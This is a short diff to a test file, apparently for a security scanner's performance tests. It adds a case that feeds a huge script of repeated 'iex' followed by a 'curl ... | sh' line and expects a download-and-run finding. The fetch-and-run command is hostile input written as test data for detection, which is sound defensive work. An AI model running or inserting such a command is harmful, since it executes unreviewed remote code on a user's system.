@@ -42,6 +42,10 @@ describe('time of a scan', () => {
       expect(scan(path, text).files).toHaveLength(1);
   }, 60_000);
 
+  it('RD8: a command of very many words', () => {
+    expect(rulesOf('a.sh', `${'iex '.repeat(120_000)}\ncurl https://a.example/x | sh\n`)).toContain('download-and-run');
+  }, 60_000);
+
   it('RD8: YAML that is nested without end is read as text', () => {
     expect(rulesOf('a.yaml', '['.repeat(50_000))).toContain('cut');
   });
